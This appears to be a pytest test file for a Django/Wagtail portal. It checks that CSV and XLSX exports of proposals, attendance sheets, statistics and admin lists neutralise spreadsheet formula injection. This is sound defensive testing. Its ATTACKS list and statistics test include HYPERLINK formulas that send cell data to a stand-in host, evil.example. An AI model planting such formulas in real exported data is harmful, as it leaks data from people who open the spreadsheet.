"""Formula injection: whatever is typed into a record arrives in a spreadsheet as text, in every
export the portal hands out (proposals, attendance and its template, statistics, the Wagtail
admin's list exports)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from portal.exports import csv_bytes, csv_cell, xlsx_bytes
from portal.models import Role
from tests.factories import CommunityFactory, PersonFactory, user_with_role
from tests.proposals.factories import Actors, make_proposal
from tests.training import factories
from training.services import attendance_add, session_mark_held

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1"]


def csv_cells(data: bytes):
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def xlsx_cells(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows())


def assert_csv_safe(data, attacks):
    cells = csv_cells(data)
    for attack in attacks:
        assert "'" + attack in cells, attack
    assert not any(c.startswith(("=", "+", "-", "@", "\t")) for c in cells)


def assert_xlsx_safe(data, attacks):
    rows = xlsx_cells(data)
    cells = [c for row in rows for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    for attack in attacks:
        assert attack in texts, attack


def test_the_helper_leaves_numbers_and_plain_text_alone():
    assert csv_cell(-5) == -5
    assert csv_cell("Nguyễn Thị Lan") == "Nguyễn Thị Lan"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(None) == ""
    rows = xlsx_cells(xlsx_bytes(["a", "b"], [["=1+1", 12], ["bad\x01char", -3]]))
    assert [c.value for c in rows[1]] == ["=1+1", 12]
    assert rows[1][0].data_type == "s"
    assert rows[2][0].value == "bad\ufffdchar"
    assert csv_cells(csv_bytes(["x"], [["@SUM(1)"]])) == ["x", "'@SUM(1)"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_proposal_export(client, db, fmt):
    actors = Actors(CommunityFactory())
    for title in ATTACKS[:5]:
        make_proposal(actors, state="submitted", title=title)
    client.force_login(actors.city)
    response = client.get(reverse("proposals:proposal_export", args=[fmt]))
    assert response.status_code == 200
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    check(response.content, ATTACKS[:5])


@pytest.fixture
def session_with_attacks(db):
    session, trainer = factories.session_with_trainer(days=1, code="vinh-x")
    for i, attack in enumerate(ATTACKS[:5]):
        attendance_add(
            session=session,
            by=trainer,
            name=f"Walk in {i}",
            organisation=attack,
            phone="",
            day=session.days[0],
        )
    attendance_add(session=session, by=trainer, name="=1+1", day=session.days[0])
    return session, trainer


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("template", [False, True])
def test_attendance_export_and_template(client, session_with_attacks, fmt, template):
    session, trainer = session_with_attacks
    client.force_login(trainer)
    params = {"format": fmt, **({"template": "1"} if template else {})}
    response = client.get(reverse("training:export_sheet", args=[session.pk]), params)
    assert response.status_code == 200
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    check(response.content, ATTACKS[:5])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_statistics_export(client, db, fmt):
    course = factories.course(title='=HYPERLINK("http://evil.example","x")')
    session = factories.session(days=1)
    session.course = course
    session.save()
    staff = user_with_role(Role.PROGRAMME_STAFF)
    session_mark_held(session=session, by=staff)
    client.force_login(staff)
    response = client.get(reverse("training:statistics"), {"export": fmt})
    assert response.status_code == 200
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    check(response.content, [course.title])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_list_exports(client, db, fmt):
    staff = user_with_role(Role.PROGRAMME_STAFF, username="staffer", is_staff=True, is_superuser=True)
    PersonFactory(name="=1+1", organisation="@SUM(1+1)")
    actors = Actors(CommunityFactory())
    make_proposal(actors, state="submitted", title="-1+1")
    client.force_login(staff)
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    response = client.get(reverse("wagtailsnippets_portal_person:list"), {"export": fmt})
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    check(body, ["=1+1", "@SUM(1+1)"])
    response = client.get(reverse("wagtailsnippets_proposals_proposal:list"), {"export": fmt})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    check(body, ["-1+1"])
